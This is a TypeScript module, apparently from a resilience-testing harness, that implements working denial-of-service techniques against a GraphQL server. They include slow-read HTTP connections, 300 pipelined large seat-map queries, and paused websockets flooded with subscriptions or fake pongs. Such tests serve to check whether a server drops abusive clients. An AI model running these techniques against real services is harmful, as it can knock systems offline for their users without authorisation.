import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';
import type { Target } from './attacker.ts';
import { ATTACKERS_ADDRESS } from './options.ts';

/** A cheap query with a large answer. */
function largeQuery(eventId: string): string {
  return `{ event(id: "${eventId}") { seatMap { sections { rows { seats { id label position { x y } } } } } } }`;
}

function httpRequest({ graphqlUrl, eventId }: Target): string {
  const body = JSON.stringify({ query: largeQuery(eventId) });
  const { host, pathname } = new URL(graphqlUrl);
  const head = `POST ${pathname} HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\n`;
  return `${head}content-length: ${body.length}\r\n\r\n${body}`;
}

/** A connection that reads nothing. */
async function openSilent({ graphqlUrl }: Target): Promise<Socket | null> {
  const { hostname, port } = new URL(graphqlUrl);
  const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKERS_ADDRESS });
  socket.pause();
  try {
    await once(socket, 'connect');
  } catch {
    return null;
  }
  return socket.on('error', () => {});
}

/** Holds the sockets until the time is up. Describes how many the server closed, as far as a non-reader can know. */
async function hold(sockets: readonly (Socket | null)[], seconds: number, each: (socket: Socket) => void) {
  const untilMs = performance.now() + seconds * 1_000;
  const open = sockets.filter((socket) => socket !== null);
  while (performance.now() < untilMs) {
    for (const socket of open) if (socket.writable) each(socket);
    await sleep(1_000);
  }
  const closed = open.filter((socket) => socket.destroyed || !socket.writable).length;
  for (const socket of open) socket.destroy();
  return `${open.length} of ${sockets.length} connections were opened, ${closed} of them closed by the server`;
}

/** 80 connections that send a query every second. */
export async function unreadHttp(target: Target): Promise<string> {
  const sockets = await Promise.all(Array.from({ length: 80 }, () => openSilent(target)));
  const request = httpRequest(target);
  return hold(sockets, target.seconds, (socket) => socket.write(request));
}

/** One connection with 300 pipelined requests. */
export async function pipelined(target: Target): Promise<string> {
  const socket = await openSilent(target);
  socket?.write(httpRequest(target).repeat(300));
  return hold([socket], target.seconds, () => {});
}

/** A websocket that reads nothing after `connection_ack`. */
async function openWebsocket({ graphqlUrl }: Target): Promise<WebSocket | null> {
  const options = { localAddress: ATTACKERS_ADDRESS, autoPong: false };
  const socket = new WebSocket(graphqlUrl.replace('http', 'ws'), 'graphql-transport-ws', options);
  socket.on('error', () => {});
  try {
    await once(socket, 'open', { signal: AbortSignal.timeout(10_000) });
    socket.send(JSON.stringify({ type: 'connection_init' }));
    await once(socket, 'message', { signal: AbortSignal.timeout(10_000) });
  } catch {
    return null;
  }
  socket.pause();
  return socket;
}

async function openWebsockets(target: Target, count: number): Promise<readonly WebSocket[]> {
  const sockets = await Promise.all(Array.from({ length: count }, () => openWebsocket(target)));
  return sockets.filter((socket) => socket !== null);
}

function subscribe(socket: WebSocket, id: number, query: string): void {
  socket.send(JSON.stringify({ id: String(id), type: 'subscribe', payload: { query } }));
}

function endWebsockets(sockets: readonly WebSocket[], wanted: number): string {
  const closed = sockets.filter(({ readyState }) => readyState !== WebSocket.OPEN).length;
  for (const socket of sockets) socket.terminate();
  return `${sockets.length} of ${wanted} websockets were opened, ${closed} of them closed by the server`;
}

/** Ten websockets with 400 different operations each, a hundred of them in flight. */
export async function silentWebsockets(target: Target): Promise<string> {
  const sockets = await openWebsockets(target, 10);
  const documents = 400;
  const atOnce = 100;
  for (let id = 0; id < documents; id += 1) {
    for (const [nth, socket] of sockets.entries()) {
      if (id >= atOnce) socket.send(JSON.stringify({ id: String(id - atOnce), type: 'complete' }));
      const seats = `... on SeatMapDelta { s${nth}_${id}: seats { seatId index status } }`;
      subscribe(socket, id, `subscription { seatMap(eventId: "${target.eventId}") { __typename ${seats} } }`);
    }
    if (id % atOnce === 0) await sleep(500);
  }
  await sleep(target.seconds * 1_000);
  return endWebsockets(sockets, 10);
}

/** Twenty websockets that read nothing, and send pongs as if they did. */
export async function guessedPongs(target: Target): Promise<string> {
  const sockets = await openWebsockets(target, 20);
  const query = largeQuery(target.eventId);
  for (let id = 0; id < 50; id += 1) for (const socket of sockets) subscribe(socket, id, query);
  const untilMs = performance.now() + target.seconds * 1_000;
  while (performance.now() < untilMs) {
    for (const socket of sockets) if (socket.readyState === WebSocket.OPEN) socket.pong();
    await sleep(500);
  }
  return endWebsockets(sockets, 20);
}
